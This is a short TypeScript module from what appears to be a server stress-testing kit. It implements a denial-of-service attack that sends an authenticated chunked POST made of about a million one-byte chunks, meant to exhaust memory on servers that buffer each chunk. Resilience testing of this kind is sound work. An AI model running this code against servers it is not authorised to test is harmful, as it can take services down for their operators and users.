import type { Attack } from '../kit/attack.js';
import { bearer, head } from '../kit/target.js';

/** A server that stores the pieces of a body as they arrive stores a million objects. */
export const attack: Attack = {
  name: 'bodies in a million chunks of one byte',
  async run(target) {
    const begin = head('POST /api/v1/invoices', bearer(target.key), 'Transfer-Encoding: chunked');
    const chunks = '1\r\na\r\n'.repeat(20_000);
    await target.repeat(4, async () => {
      const socket = await target.tls();
      socket?.resume().write(begin);
      for (let sent = 0; sent < 50 && socket?.destroyed === false && !target.isOver; sent += 1) {
        await target.push(socket, chunks);
      }
      await target.wait();
    });
  },
};
